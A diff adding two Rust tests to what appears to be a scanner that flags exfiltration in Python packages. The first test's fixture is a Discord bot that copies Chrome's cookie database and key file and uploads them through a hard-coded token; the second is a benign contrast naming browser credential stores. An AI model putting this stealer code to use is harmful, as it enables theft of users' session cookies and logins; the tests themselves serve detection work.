@@ -820,3 +820,57 @@ def fetch_tool():
     assert!(critical(&f).is_empty(), "{f:#?}");
     assert!(!has(&f, "exfiltration"), "{f:#?}");
 }
+
+// ── a chat bot with a hard-coded token as the channel for stolen files ──
+
+#[test]
+fn bot_uploading_browser_stores_is_critical() {
+    // the token is made up (its id part decodes to digits, as real ones do); the bot
+    // never logs in anywhere in a test: nothing is run
+    let src = r#"
+import os, shutil, discord
+from discord.ext import commands
+
+bot = commands.Bot(command_prefix="!", intents=discord.Intents.default())
+
+def copy_cookies():
+    shutil.copyfile(os.environ["LOCALAPPDATA"] + "\\Google\\Chrome\\User Data\\Default\\Network\\Cookies", "/tmp/marker-c")
+    with open(os.environ["LOCALAPPDATA"] + "\\Google\\Chrome\\User Data\\Local State") as f:
+        return f.read()
+
+@bot.command()
+async def cookies(ctx):
+    copy_cookies()
+    await ctx.send(file=discord.File("/tmp/marker-c"))
+
+def main():
+    bot.run("MTIzNDU2Nzg5MDEyMzQ1Njc4.GAbCdE.aBcDeFgHiJkLmNoPqRsTuVwXyZ0")
+"#;
+    let f = run("tool/__main__.py", FileRole::Module, src);
+    assert_eq!(critical(&f), vec!["exfiltration"], "{f:#?}");
+    assert!(has(&f, "webhook-url"), "{f:#?}");
+}
+
+#[test]
+fn bot_with_configured_token_sending_files_is_not_critical() {
+    // an ordinary bot: token from the environment, it uploads a chart it drew; a cookie
+    // helper that reads the browser store lives beside it — no token in the package,
+    // so no channel the author controls
+    let src = r#"
+import os, discord
+from discord.ext import commands
+
+bot = commands.Bot(command_prefix="!", intents=discord.Intents.default())
+BROWSER_STORES = ["Login Data", "Local State"]
+
+@bot.command()
+async def chart(ctx):
+    await ctx.send(file=discord.File("chart.png"))
+
+def main():
+    bot.run(os.environ["DISCORD_TOKEN"])
+"#;
+    let f = run("chartbot/__main__.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+    assert!(!has(&f, "webhook-url"), "{f:#?}");
+}
